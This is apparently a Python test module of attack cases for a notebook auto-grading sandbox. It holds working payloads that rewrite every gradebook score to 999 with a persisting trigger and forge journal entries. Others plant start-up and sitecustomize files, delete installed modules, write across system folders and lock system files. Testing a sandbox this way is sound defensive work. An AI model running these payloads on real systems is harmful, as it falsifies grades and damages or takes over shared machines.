"""Gradebook and course folder: written to, locked, appended to; start-up files and modules beside the notebook."""

import os
from pathlib import Path

from the_course import ROOT

from ..attack import FOLDER, FULL, LESSON, RIGHT, Attack, first
from ..traces import MARK

DATABASE = """
import glob, sqlite3, os
first = '/proc/1/root'
for pattern in ('/**/gradebook.db', first + '/**/gradebook.db', '../../../gradebook.db', '/tmp/**/*.db', '/var/tmp/**/*.db'):
    for path in glob.glob(pattern, recursive=pattern.startswith(('/tmp', '/var/tmp')))[:100]:
        database = sqlite3.connect(path)
        database.execute('update grade set auto_score = 999')
        database.execute('create trigger t after insert on grade begin update grade set auto_score = 999; end')
        database.commit()
"""
JOURNAL = "import glob\nfor path in glob.glob('../../../**/journal.jsonl', recursive=True): open(path, 'a').write('{\"student\": \"student13\"}\\n')"
WRITE_EVERYWHERE = f"""
import os
folders = ['/', '/usr', '/etc', '/tmp/..', {str(ROOT)!r}, {str(ROOT / "grader")!r}, {str(ROOT / "data")!r}, '/dev/shm', '/var/tmp', '/root', '/home',
           os.path.dirname(os.__file__), '/run', '/proc/self/cwd/..', '/proc/1/root', {os.path.expanduser("~")!r}, os.path.expanduser('~')]
for folder in folders:
    for act in (lambda: open(folder + '/{MARK}', 'w').close(), lambda: os.mkdir(folder + '/{MARK}-folder'), lambda: os.symlink('/', folder + '/{MARK}-link')):
        try: act()
        except OSError: pass
"""
START_UP = """
import os, site, sys
texts = {'~/.ipython/profile_default/startup/00.py': 'x', '~/.jupyter/jupyter_config.py': 'x', '~/.config/pip/pip.conf': 'x',
         '~/.bashrc': 'x', '~/nbgrader_config.py': 'x', '~/.local/lib/python3.11/site-packages/usercustomize.py': 'x'}
for path, text in texts.items():
    path = os.path.expanduser(path)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, 'a').write(text)
for folder in sys.path + site.getsitepackages():
    for name in ('sitecustomize.py', 'numpy.py', 'evil.pth'):
        try: open(os.path.join(folder, name), 'w').write('import os; os._exit(1)')
        except OSError: pass
"""
REPLACED = """
import os, numpy, torch, grader
for module in (numpy, torch, grader, os):
    for act in (os.remove, lambda path: open(path, 'a').write('x'), lambda path: os.chmod(path, 0o777), lambda path: os.rename(path, path + '~')):
        try: act(module.__file__)
        except OSError: pass
"""
LOCKED = """
import fcntl, glob, os
held = []
for pattern in ('/usr/lib/python3*/*.py', '/dev/*', os.path.dirname(os.__file__) + '/*.py', '../../../*'):
    for path in glob.glob(pattern)[:20]:
        try: file = open(path, 'rb'); fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB); held.append(file)
        except OSError: pass
import subprocess; subprocess.Popen(['sleep', '60'], pass_fds=[f.fileno() for f in held])
"""
SHADOWS = (
    "numpy",
    "torch",
    "json",
    "msgpack",
    "click",
    "struct",
    "sitecustomize",
    "usercustomize",
    "grader",
    "conftest",
)


def with_modules(folder: Path, data: bytes) -> None:
    """Files beside the notebook whose names are those of modules and of configuration."""
    place = folder / "student13" / FOLDER
    place.mkdir(parents=True)
    (place / f"{LESSON.name}.ipynb").write_bytes(data)
    for name in SHADOWS:
        (place / f"{name}.py").write_text(f"open('/tmp/{MARK}', 'w')")
        (folder / f"{name}.py").write_text(f"open('/tmp/{MARK}', 'w')")
    for name in ("nbgrader_config.py", ".env", "timestamp.txt", "notes.ipynb", ".ipynb_checkpoints", "gradebook.db"):
        (place / name).write_text("x")


ATTACKS = (
    first("every gradebook that can be found, and a trigger", DATABASE, layers=("files",)),
    first("the journal appended to", JOURNAL),
    first("files, folders and links made wherever possible", WRITE_EVERYWHERE, layers=("files",)),
    first("start-up files in home and on the path", START_UP, layers=("files",)),
    first("installed modules removed and changed", REPLACED, layers=("files",)),
    Attack("locks held on shared files by a child", score=FULL, answers={"total": LOCKED + RIGHT["total"]}),
    Attack("modules and configuration beside a right notebook", score=FULL, place=with_modules),
    Attack("modules and configuration beside a wrong notebook", place=with_modules),
)
